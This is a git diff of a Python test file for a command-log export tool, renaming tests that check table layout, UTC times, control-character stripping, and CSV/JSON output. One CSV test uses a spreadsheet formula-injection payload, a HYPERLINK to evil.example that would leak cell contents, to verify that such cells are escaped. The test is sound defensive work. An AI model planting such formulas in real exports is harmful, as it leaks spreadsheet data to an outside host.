@@ -84,7 +84,7 @@ def _row(record: Record) -> str:
 # --- table ----------------------------------------------------------------------------------------------------------
 
 
-def test_the_table_says_when_who_which_deal_what_became_of_it_and_where_to_look() -> None:
+def test_the_table_has_time_caller_deal_result_delivery_and_reference() -> None:
     assert _written(Format.TABLE, CHANGED, replace(CHANGED, name=None, delivered="direct_message")) == (
         "when (UTC)           who          deal                           "
         "what became of it            delivered       reference\n"
@@ -95,7 +95,7 @@ def test_the_table_says_when_who_which_deal_what_became_of_it_and_where_to_look(
     )
 
 
-def test_the_example_of_the_readme_is_what_is_written() -> None:
+def test_the_readme_shows_the_table_as_it_is_written() -> None:
     day, deal = datetime(2026, 11, 24, tzinfo=UTC), "cD4eF6gH8jK1lM3nP5qR"
     changed = replace(CHANGED, user_id="U0ANA")
     undone = replace(changed, undoes="key", before="won", after="open", delivered="channel")
@@ -118,15 +118,15 @@ def test_the_example_of_the_readme_is_what_is_written() -> None:
     assert f"```\n{written}```\n" in (Path(__file__).parents[2] / "README.md").read_text()
 
 
-def test_a_table_without_rows_says_so() -> None:
+def test_a_table_without_commands_says_so() -> None:
     assert _written(Format.TABLE) == "no commands\n"
 
 
-def test_the_table_is_for_a_terminal_of_120_columns() -> None:
+def test_the_table_fits_a_terminal_of_120_columns() -> None:
     assert 100 < WIDTH <= 120
 
 
-def test_times_are_shown_in_utc_whatever_they_came_in() -> None:
+def test_times_of_any_zone_are_shown_in_utc() -> None:
     in_tokyo = replace(CHANGED, at=CHANGED.at.astimezone(timezone(timedelta(hours=9))))
 
     assert _row(in_tokyo) == _row(CHANGED)
@@ -144,11 +144,11 @@ def test_times_are_shown_in_utc_whatever_they_came_in() -> None:
         ({"outcome": "not_confirmed", "after": None}, "won: not confirmed "),
     ],
 )
-def test_what_became_of_a_command_is_shown_in_words(changed: dict[str, str | None], shown: str) -> None:
+def test_the_result_of_a_command_is_shown_in_words(changed: dict[str, str | None], shown: str) -> None:
     assert f"  {shown}" in _row(replace(CHANGED, **changed))  # type: ignore[arg-type]
 
 
-def test_a_command_that_is_not_finished_is_under_way() -> None:
+def test_an_unfinished_command_is_shown_as_under_way() -> None:
     begun = replace(CHANGED, state="running", outcome=None, after=None, delivered=None, finished_at=None)
     assert _row(begun).count("under way") == 2
     assert "won: under way" in _row(begun)
@@ -158,18 +158,18 @@ def test_a_command_that_is_not_finished_is_under_way() -> None:
     assert "under way" in _row(not_yet_told)
 
 
-def test_a_reply_that_did_not_arrive_is_visible() -> None:
+def test_an_undelivered_reply_is_shown() -> None:
     assert "undelivered" in _row(replace(CHANGED, delivered="undelivered"))
 
 
-def test_what_an_earlier_version_never_delivered_is_shown_as_nothing() -> None:
+def test_a_finished_command_without_a_delivery_shows_none() -> None:
     row = _row(replace(CHANGED, outcome="interrupted", delivered=None))
 
     assert "won: interrupted" in row
     assert "under way" not in row
 
 
-def test_a_long_name_is_cut_with_an_ellipsis_and_its_neighbours_stay_in_line() -> None:
+def test_a_long_name_is_cut_with_an_ellipsis_and_the_columns_stay_aligned() -> None:
     row = _row(replace(CHANGED, name="New website for the company with the long name"))
 
     assert "New website for the company …  open" in row
@@ -177,13 +177,13 @@ def test_a_long_name_is_cut_with_an_ellipsis_and_its_neighbours_stay_in_line() -
 
 
 @pytest.mark.parametrize("name", ["東京の新しいウェブサイト", "東" * 40, "a" + "東" * 40, "e\u0301te\u0301"])
-def test_letters_that_take_two_cells_or_none_stay_in_line_too(name: str) -> None:
+def test_columns_stay_aligned_with_letters_of_two_cells_or_none(name: str) -> None:
     before, _ = _row(replace(CHANGED, name=name)).split("open →")
 
     assert _cells(before) == _row(CHANGED).index("open →")
 
 
-def test_accents_without_end_bury_nobody() -> None:
+def test_the_number_of_accents_in_a_cell_is_limited() -> None:
     assert len(_row(replace(CHANGED, name="e" + "\u0301" * 1000))) < 2 * WIDTH
 
 
@@ -198,13 +198,13 @@ def test_accents_without_end_bury_nobody() -> None:
         ("Müller → 東京", "Müller → 東京"),
     ],
 )
-def test_nothing_that_would_steer_a_terminal_reaches_it(typed: str, shown: str) -> None:
+def test_control_characters_do_not_reach_the_terminal(typed: str, shown: str) -> None:
     assert printable(typed) == shown
     assert f"  {shown} " in _row(replace(CHANGED, name=typed))
 
 
 @given(st.lists(RECORDS, max_size=4))
-def test_every_line_of_the_table_is_within_its_width_and_holds_no_control_character(records: list[Record]) -> None:
+def test_no_line_of_the_table_is_too_wide_or_has_a_control_character(records: list[Record]) -> None:
     lines = _written(Format.TABLE, *records).split("\n")
 
     assert lines.pop() == ""
@@ -220,7 +220,7 @@ def _cells(text: str) -> int:
 # --- csv ------------------------------------------------------------------------------------------------------------
 
 
-def test_csv_has_a_header_and_every_field_and_ends_its_lines_as_the_standard_says() -> None:
+def test_csv_has_a_header_every_field_and_the_line_ends_of_rfc_4180() -> None:
     assert _written(Format.CSV) == ",".join(NAMES) + "\r\n"
     assert _written(Format.CSV, CHANGED).endswith(
         "\r\nkey,H4WSYDSE,2026-11-24T10:31:07.250000+00:00,T1,U012AB3CD,C0SALES,aB3dE5fG7hJ9kL1mN2pQ won,"
@@ -230,7 +230,7 @@ def test_csv_has_a_header_and_every_field_and_ends_its_lines_as_the_standard_say
 
 
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])  # noqa: RUF001 - the point
-def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(first: str) -> None:
+def test_a_cell_that_looks_like_a_formula_gets_an_apostrophe(first: str) -> None:
     formula = f'{first}HYPERLINK("http://evil.example?"&A1)'
     _, row = csv.reader(io.StringIO(_written(Format.CSV, replace(CHANGED, text=formula)), newline=""))
 
@@ -238,7 +238,7 @@ def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(f
 
 
 @given(st.lists(RECORDS, max_size=4))
-def test_csv_gives_back_every_field_once_the_apostrophe_is_taken_away(records: list[Record]) -> None:
+def test_csv_read_back_without_the_apostrophe_is_every_field(records: list[Record]) -> None:
     header, *rows = csv.reader(io.StringIO(_written(Format.CSV, *records), newline=""), strict=True)
 
     assert header == NAMES
@@ -251,7 +251,7 @@ def test_csv_gives_back_every_field_once_the_apostrophe_is_taken_away(records: l
 
 
 @given(st.lists(RECORDS, max_size=4))
-def test_json_is_an_array_with_one_object_on_each_line_that_has_every_field(records: list[Record]) -> None:
+def test_json_is_an_array_with_every_field_of_a_record_on_one_line(records: list[Record]) -> None:
     written = _written(Format.JSON, *records)
 
     assert json.loads(written) == [dict(zip(NAMES, _values(record), strict=True)) for record in records]
@@ -268,7 +268,7 @@ def _values(record: Record) -> list[object]:
 
 
 @pytest.mark.parametrize("output_format", Format)
-def test_each_record_is_written_before_the_next_is_asked_for(output_format: Format) -> None:
+def test_each_record_is_written_before_the_next_is_read(output_format: Format) -> None:
     out = io.StringIO()
     seen = []
 
@@ -299,7 +299,7 @@ def _access(output_format: Format, *rows: AccessRequest) -> str:
     return out.getvalue()
 
 
-def test_who_asks_and_who_was_let_in_is_a_table() -> None:
+def test_requests_for_access_are_a_table() -> None:
     assert _access(Format.TABLE, ASKED, APPROVED, REVOKED).splitlines() == [
         "asked (UTC)          who          where        state     by           since (UTC)          reference",
         "2026-11-25 11:00:00  U0BEN        C0SALES      open                                        H4WSYDSE",
@@ -309,7 +309,7 @@ def test_who_asks_and_who_was_let_in_is_a_table() -> None:
     assert _access(Format.TABLE) == "nobody\n"
 
 
-def test_programs_read_every_field_of_it() -> None:
+def test_json_and_csv_have_every_field_of_a_request() -> None:
     (row,) = json.loads(_access(Format.JSON, REVOKED))
     assert row["revoked_at"] == "2026-11-26T08:00:00+00:00"
     assert list(row) == [field.name for field in fields(AccessRequest)]
